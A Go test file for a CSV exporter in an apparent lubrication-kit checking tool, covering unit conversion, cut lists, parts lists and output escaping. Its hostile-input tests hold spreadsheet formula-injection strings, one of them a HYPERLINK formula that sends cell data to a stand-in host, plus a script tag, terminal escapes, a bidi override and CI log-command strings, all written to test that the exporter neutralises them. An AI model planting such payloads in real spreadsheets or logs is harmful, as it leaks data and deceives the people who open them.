// The files in testdata are the sheets of the example kits. They are refreshed
// by go generate ./..., and the difference is read.
package sheet_test

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"kitgauge/checker/facts"
	"kitgauge/checker/golden"
	_ "kitgauge/checker/internal/ample"
	"kitgauge/checker/internal/reporttest"
	"kitgauge/checker/kit"
	"kitgauge/checker/report/sheet"
	"kitgauge/checker/source"
	"kitgauge/examples"
)

// read works out a kit, each with the texts in pairs replaced in it.
func read(t testing.TB, kitText, partsText []byte, pairs ...string) *facts.Kit {
	t.Helper()
	for i := 0; i < len(pairs); i += 2 {
		if !bytes.Contains(kitText, []byte(pairs[i])) && !bytes.Contains(partsText, []byte(pairs[i])) {
			t.Fatalf("%q is nowhere in the texts", pairs[i])
		}
	}
	parse := func(name string, text []byte) *source.Document {
		docs, problems := source.Parse(name, []byte(strings.NewReplacer(pairs...).Replace(string(text))))
		if len(problems) > 0 {
			t.Fatal(problems[0])
		}
		return docs[0]
	}
	file, _ := kit.ReadFile(parse("test.parts.yaml", partsText))
	catalogue, _ := kit.NewCatalogue([]*kit.File{file}, "")
	k, _ := kit.Read(parse("test.kit.yaml", kitText))
	k.Resolve(catalogue)
	return facts.Compute(k, facts.Options{})
}

// example works out an example kit.
func example(t testing.TB, name string, pairs ...string) *facts.Kit {
	t.Helper()
	_, text, found := examples.Kit(name)
	parts, err := examples.ReadFile("", "parts/winter.parts.yaml")
	if !found || err != nil {
		t.Fatal(name, found, err)
	}
	return read(t, text, parts, pairs...)
}

func asCSV(t testing.TB, s sheet.Sheet) string {
	t.Helper()
	var b bytes.Buffer
	if err := sheet.WriteCSV(&b, s, sheet.CSV{}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestGolden(t *testing.T) {
	for _, name := range []string{"gritter", "loader", "trailer"} {
		book := sheet.Of(example(t, name), sheet.ByLength)
		for _, s := range book.Sheets {
			t.Run(name+"/"+s.Name, func(t *testing.T) {
				got := asCSV(t, s)
				file := filepath.Join("testdata", name+"-"+s.Name+".csv")
				golden.Compare(t, file, []byte(got))
			})
		}
		var names []string
		for _, s := range book.Sheets {
			names = append(names, s.Name)
			for i, row := range s.Rows {
				if len(row) != len(s.Columns) {
					t.Errorf("%s, %s: row %d has %d cells; want %d", name, s.Name, i, len(row), len(s.Columns))
				}
			}
		}
		if diff := cmp.Diff(sheet.Names(), names); diff != "" {
			t.Errorf("names (-Names +Of):\n%s", diff)
		}
	}
}

// table reads a sheet back by the heads of its columns.
func table(t testing.TB, s sheet.Sheet) []map[string]string {
	t.Helper()
	text := asCSV(t, s)
	// RFC 4180, 2.1: each record ends in CR LF. 2.4: each has as many fields.
	if strings.Count(text, "\r\n") != strings.Count(text, "\n") || !strings.HasSuffix(text, "\r\n") {
		t.Error("a line does not end in CR LF")
	}
	records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var rows []map[string]string
	for _, record := range records[1:] {
		row := map[string]string{}
		for i, head := range records[0] {
			row[head] = record[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// column lists the fields under one head.
func column(t testing.TB, s sheet.Sheet, head string) []string {
	var out []string
	for _, row := range table(t, s) {
		field, found := row[head]
		if !found {
			t.Fatalf("there is no column %q", head)
		}
		out = append(out, field)
	}
	return out
}

const parts = `
title: invented parts
revision: A
parts:
  - {number: P, kind: pump, description: A pump, maker: M, outlets: 6, element_series: [E]}
  - {number: E1, kind: element, description: An element, maker: M, series: E, stroke_volume: 25 mm3}
  - {number: T4, kind: tube, description: Tube 4, maker: M, outer: 4 mm}
  - {number: T6, kind: tube, description: Tube 6, maker: M, outer: 6 mm}
  - {number: F, kind: fitting, description: A fitting, maker: M, insertion: 12 mm}
  - {number: G, kind: grease, description: A grease, maker: M}
  - {number: Y, kind: tie, description: A tie, maker: M}
  - {number: K, kind: connector, description: A connector, maker: M}
`

const small = `
header: {number: A-1, revision: B, title: Small, status: draft, units: metric, date: 2026-11-25}
bodies: [{id: frame, name: main frame}]
points:
  - {id: A, name: Left pin, body: frame, position: [0 m, 500 mm, 0 m], thread: M6x1}
  - {id: B, name: Right pin, body: frame, position: [0 m, -500 mm, 0 m], thread: M6x1}
  - {id: C, name: King pin, body: frame, position: [0 m, 20 mm, 0 m], thread: M6x1}
pump:
  part: P
  grease: G
  first_fill: 1.5 l
  outlets: [{number: 1, element: E1}, {number: 2, element: E1, stroke_volume: 0.05 cm3}, {number: 3, element: E1}, {number: 4}]
lines:
  - {number: 4, outlet: 4, point: Z, tube: T4, bundle: X, cut_length: 1 m, pump_fitting: F, point_fitting: F, pump_marker: "4", point_marker: "4"}
  - {number: 3, outlet: 3, point: C, tube: T6, single: true, cut_length: 900 mm, pump_fitting: F, point_fitting: F, pump_marker: "3P", point_marker: "3"}
  - {number: 2, outlet: 2, point: B, tube: T4, bundle: W, leaves_at: w-1, cut_length: 102.4375 in, pump_fitting: F, point_fitting: F}
  - {number: 1, outlet: 1, point: A, tube: T4, bundle: X}
bundles: [{id: W}, {id: X}]
parts_list:
  - {part: E1, quantity: 2}
  - {part: E1, quantity: 3}
  - {part: F, quantity: 4}
  - {part: T4, length: 4 m}
  - {part: Y, quantity: 20}
  - {part: K, quantity: 1}
  - {part: Q, length: 3 m}
  - {part: G}
`

func TestCallOut(t *testing.T) {
	got := table(t, sheet.CallOut(read(t, []byte(small), []byte(parts))))
	want := []map[string]string{
		{"line": "1", "outlet": "1", "element": "E1", "a stroke (mm3)": "25", "point": "A", "name": "Left pin", "side": "left", "on": "main frame", "thread": "M6x1", "fitting": "", "marker": ""},
		// 0.05 cm3 is 50 mm3, as fitted; the element lists 25
		{"line": "2", "outlet": "2", "element": "E1", "a stroke (mm3)": "50", "point": "B", "name": "Right pin", "side": "right", "on": "main frame", "thread": "M6x1", "fitting": "F", "marker": ""},
		{"line": "3", "outlet": "3", "element": "E1", "a stroke (mm3)": "25", "point": "C", "name": "King pin", "side": "middle", "on": "main frame", "thread": "M6x1", "fitting": "F", "marker": "3"},
		{"line": "4", "outlet": "4", "element": "", "a stroke (mm3)": "", "point": "Z", "name": "", "side": "", "on": "", "thread": "", "fitting": "F", "marker": "4"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
}

// The inch is 25.4 mm (ISO 80000-3, printed): 102.4375 in are 2601.9125 mm,
// and not a digit is lost.
func TestCutList(t *testing.T) {
	k := read(t, []byte(small), []byte(parts))
	got := table(t, sheet.CutList(k, sheet.ByLength))
	want := []map[string]string{
		{"tube": "T4", "line": "2", "cut length (mm)": "2601.9125", "pump fitting": "F", "pump marker": "", "point fitting": "F", "point marker": "", "bundle": "W", "leaves at": "w-1", "from": "outlet 2", "to": "point B"},
		{"tube": "T4", "line": "4", "cut length (mm)": "1000", "pump fitting": "F", "pump marker": "4", "point fitting": "F", "point marker": "4", "bundle": "X", "leaves at": "", "from": "outlet 4", "to": "point Z"},
		{"tube": "T4", "line": "1", "cut length (mm)": "", "pump fitting": "", "pump marker": "", "point fitting": "", "point marker": "", "bundle": "X", "leaves at": "", "from": "outlet 1", "to": "point A"},
		{"tube": "T6", "line": "3", "cut length (mm)": "900", "pump fitting": "F", "pump marker": "3P", "point fitting": "F", "point marker": "3", "bundle": "single", "leaves at": "", "from": "outlet 3", "to": "point C"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
	if got, want := column(t, sheet.CutList(k, sheet.ByBundle), "line"), []string{"2", "1", "4", "3"}; !slices.Equal(got, want) {
		t.Errorf("by bundle: lines %v, want %v", got, want)
	}
	inch := read(t, []byte(small), []byte(parts), "units: metric", "units: inch")
	if got, want := column(t, sheet.CutList(inch, sheet.ByLength), "cut length (in)")[0], "102.4375"; got != want {
		t.Errorf("in inches: %s, want %s", got, want)
	}
}

// A length in inches goes up to the next sixteenth, so that it can be measured
// off. The inch is 25.4 mm (ISO 80000-3, printed): 6910 mm are 272.047 in, and
// 272 1/16 in are 272.0625.
func TestSixteenths(t *testing.T) {
	tests := []struct{ stated, want string }{
		{"6910 mm", "272.0625"}, {"25.4 mm", "1"}, {"1 in", "1"}, {"1.0625 in", "1.0625"}, {"1.06251 in", "1.125"}, {"27 mm", "1.125"}, {"86.0236 in", "86.0625"},
	}
	for _, tt := range tests {
		k := read(t, []byte(small), []byte(parts), "units: metric", "units: inch", "cut_length: 900 mm", "cut_length: "+tt.stated)
		if got := column(t, sheet.CutList(k, sheet.ByBundle), "cut length (in)")[3]; got != tt.want {
			t.Errorf("%s: %s in, want %s", tt.stated, got, tt.want)
		}
	}
}

// The conduit of a bundle is cut where the kit leaves it uncovered, and as
// long as its way: 300 mm, then bare, then 400 mm and the free length.
const covered = `
header: {number: A-1, revision: B, title: Small, status: draft, units: metric, date: 2026-11-25}
bodies: [{id: frame, name: main frame}, {id: axle, name: axle}]
joints: [{id: j, kind: prismatic, parent: frame, child: axle, axis: [0, 0, 1], range: {from: -10 mm, to: 10 mm}}]
points: [{id: A, body: axle, position: [900 mm, 0 m, 0 m]}, {id: B, body: axle, position: [950 mm, 0 m, 0 m]}]
pump: {part: P, body: frame, position: [0 m, 0 m, 0 m]}
lines:
  - {number: 1, outlet: 1, point: A, tube: T4, bundle: X, leaves_at: x-4}
  - {number: 2, outlet: 2, point: B, tube: T4, bundle: X, leaves_at: x-4}
bundles:
  - id: X
    conduit: C
    route:
      - {id: x-1, body: frame, position: [300 mm, 0 m, 0 m], hold: clip}
      - {id: x-2, body: frame, position: [350 mm, 0 m, 0 m], hold: clip, uncovered: true}
      - {id: x-3, body: frame, position: [750 mm, 0 m, 0 m], hold: clip}
      - {id: x-4, body: axle, position: [850 mm, 0 m, 0 m], hold: clip, free_length: 160 mm, member_lengths: [{line: 2, length: 170 mm}]}
`

func TestConduitAndFreeLengths(t *testing.T) {
	k := read(t, []byte(covered), []byte(parts))
	var got []string
	for _, row := range table(t, sheet.CutList(k, sheet.ByLength))[2:] {
		got = append(got, strings.Join([]string{row["tube"], row["line"], row["cut length (mm)"], row["bundle"], row["from"], row["to"]}, "|"))
	}
	if diff := cmp.Diff([]string{"C||560|X|x-2|x-4", "C||300|X|the pump|x-1"}, got); diff != "" {
		t.Errorf("conduit (-want +got):\n%s", diff)
	}
	want := []map[string]string{
		{"bundle": "X", "lines": "1", "from": "x-3", "on": "main frame", "to": "x-4", "onto": "axle", "free length (mm)": "160", "longest distance (mm)": "101"},
		{"bundle": "X", "lines": "2", "from": "x-3", "on": "main frame", "to": "x-4", "onto": "axle", "free length (mm)": "170", "longest distance (mm)": "101"},
	} // 100 mm and 10 mm at right angles: 100.5 mm, up to the next millimetre
	if diff := cmp.Diff(want, table(t, sheet.FreeLengths(k))); diff != "" {
		t.Errorf("free lengths (-want +got):\n%s", diff)
	}
}

func TestPartsList(t *testing.T) {
	row := func(part, description, unit, needed, listed, spare, remark string) map[string]string {
		maker := "M"
		if description == "" {
			maker = ""
		}
		return map[string]string{"part": part, "description": description, "maker": maker, "unit": unit, "needed": needed, "listed": listed, "spare": spare, "remark": remark}
	}
	want := []map[string]string{
		row("E1", "An element", "pieces", "3", "5", "2", ""), // three outlets, two rows
		row("F", "A fitting", "pieces", "6", "4", "-2", "short"),
		row("T4", "Tube 4", "m", "3.61", "4", "0.39", ""), // 2.6019125 m and 1 m, up to the next centimetre
		row("Y", "A tie", "pieces", "", "20", "", "consumable"),
		row("K", "A connector", "pieces", "", "1", "", "not named in the kit"),
		row("Q", "", "m", "", "3", "", "not in the catalogue"),
		row("G", "A grease", "l", "1.5", "", "", ""),
		row("P", "A pump", "pieces", "1", "", "", "not in the parts list"),
		row("T6", "Tube 6", "m", "0.9", "", "", "not in the parts list"),
	}
	if diff := cmp.Diff(want, table(t, sheet.PartsList(read(t, []byte(small), []byte(parts))))); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
	// The foot is 0.3048 m (printed): 3.6019125 m are 11.817 ft.
	inch := sheet.PartsList(read(t, []byte(small), []byte(parts), "units: metric", "units: inch"))
	if got := table(t, inch)[2]; got["unit"] != "ft" || got["needed"] != "11.9" {
		t.Errorf("in feet: %v, want 11.9 ft", got)
	}
}

// What is stated and cannot be read is marked, and never passes for empty.
func TestUnread(t *testing.T) {
	k := read(t, []byte(small), []byte(parts), "cut_length: 900 mm", "cut_length: 900", `point_marker: "3"`, "point_marker: [3]")
	got := table(t, sheet.CutList(k, sheet.ByLength))[3]
	if got["cut length (mm)"] != "?" || got["point marker"] != "?" {
		t.Errorf("got %v; want ? for the length without a unit and for the marker that is a list", got)
	}
}

// Every text that a kit file can bring into a sheet, hostile.
func hostile(t testing.TB, bad string) sheet.Book {
	quoted := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\t", `\t`, "\r", `\r`, "\n", `\n`, "\x1b", `\e`, "\u202e", `\u202E`, "\u009b", `\x9b`).Replace(bad)
	q := `"` + quoted + `"`
	k := read(t, []byte(small), []byte(parts),
		"number: A-1", "number: "+q, "title: Small", "title: "+q, "revision: B", "revision: "+q, "name: main frame", "name: "+q, "id: A,", "id: "+q+",", "point: A,", "point: "+q+",", "name: Left pin", "name: "+q,
		"thread: M6x1", "thread: "+q, `point_marker: "4"`, "point_marker: "+q, "leaves_at: w-1", "leaves_at: "+q,
		"description: A pump, maker: M", "description: "+q+", maker: "+q, "part: Q", "part: "+q)
	return sheet.Of(k, sheet.ByLength)
}

var hostileTexts = []string{
	`=HYPERLINK("http://fleet.example/?"&A1,"x")`, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1",
	`<script>alert(1)</script>`, `"quoted", with comma`, "esc\x1b[2J\u009b31m\u202eabc", "_x003D_1+1", "&P &\"Arial\"&20 of",
}

func TestHostile(t *testing.T) {
	for _, bad := range hostileTexts {
		book := hostile(t, bad)
		found := 0
		for _, s := range book.Sheets {
			text := asCSV(t, s)
			if i := strings.IndexFunc(text, func(r rune) bool {
				return r != '\r' && r != '\n' && unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)
			}); i >= 0 {
				t.Errorf("%s: %q: a control character at %d", s.Name, bad, i)
			}
			for _, row := range table(t, s) {
				for head, field := range row {
					if strings.Contains(field, strings.Trim(bad, "\t\r\n")) || strings.HasPrefix(field, "'") || strings.Contains(field, "abc") {
						found++
					}
					// -2 spare fittings are a number, and stay bare
					if field != "" && strings.ContainsAny(field[:1], "=+-@\t\r\n") && head != "spare" {
						t.Errorf("%s: %s is %q, which a spreadsheet takes for a formula", s.Name, head, field)
					}
				}
			}
		}
		if found < 8 {
			t.Errorf("%q came into %d cells: this test looks at too little", bad, found)
		}
	}
}

func TestHarmless(t *testing.T) {
	tests := []struct{ text, want string }{
		{"", ""}, {"M10x1", "M10x1"}, {"a=b", "a=b"}, {"'x", "'x"},
		{"=1", "'=1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@a", "'@a"}, {"\ta", `'\ta`}, {"\ra", `'\ra`}, {"\na", `'\na`},
		{"＝1", "'＝1"}, {"＠1", "'＠1"}, {"::error::x", `\x3a:error::x`}, {"a::b", "a::b"}, {"##[error]x", `#\x23[error]x`}, {"\x1b[2J", `\x1b[2J`}, {"\xff", `\xff`},
	}
	for _, tt := range tests {
		if got := sheet.Harmless(tt.text); got != tt.want {
			t.Errorf("Harmless(%q) = %q, want %q", tt.text, got, tt.want)
		}
	}
}

// However a text begins, what is written begins with none of the characters.
func FuzzHarmless(f *testing.F) {
	for _, text := range append(hostileTexts, reporttest.HarmfulText) {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := sheet.Harmless(text)
		if strings.IndexAny(got, "=+-@\t\r\n＝＋－＠") == 0 {
			t.Errorf("Harmless(%q) = %q", text, got)
		}
		if again := sheet.Harmless(got); again != got {
			t.Errorf("Harmless twice: %q, then %q", got, again)
		}
	})
}

func TestBOM(t *testing.T) {
	var b bytes.Buffer
	if err := sheet.WriteCSV(&b, sheet.CallOut(example(t, "trailer")), sheet.CSV{BOM: true}); err != nil {
		t.Fatal(err)
	}
	// RFC 3629, 6: the mark is EF BB BF in UTF-8.
	if !bytes.HasPrefix(b.Bytes(), []byte{0xef, 0xbb, 0xbf, 'l', 'i', 'n', 'e', ','}) {
		t.Errorf("got % x; want the mark, then the head", b.Bytes()[:8])
	}
}

// An office that writes 2,5 gets numbers that its spreadsheet reads as such.
func TestSeparators(t *testing.T) {
	tests := []struct {
		o    sheet.CSV
		want string
	}{
		{sheet.CSV{}, "a,n\r\n\"x,y;z\",2.5\r\n"},
		{sheet.CSV{Separator: ';', Decimal: ','}, "a;n\r\n\"x,y;z\";2,5\r\n"},
		{sheet.CSV{Separator: '\t', Decimal: ','}, "a\tn\r\nx,y;z\t2,5\r\n"},
	}
	s := sheet.Sheet{
		Columns: []sheet.Column{{Head: "a"}, {Head: "n", Right: true}},
		Rows:    [][]sheet.Cell{{{Text: "x,y;z"}, {Text: "2.5", Number: 2.5, IsNumber: true}}},
	}
	for _, tt := range tests {
		var b bytes.Buffer
		if err := sheet.WriteCSV(&b, s, tt.o); err != nil || b.String() != tt.want {
			t.Errorf("%+v: %q, %v; want %q", tt.o, b.String(), err, tt.want)
		}
	}
}

func BenchmarkOf(b *testing.B) {
	k := example(b, "gritter")
	for b.Loop() {
		sheet.Of(k, sheet.ByLength)
	}
}
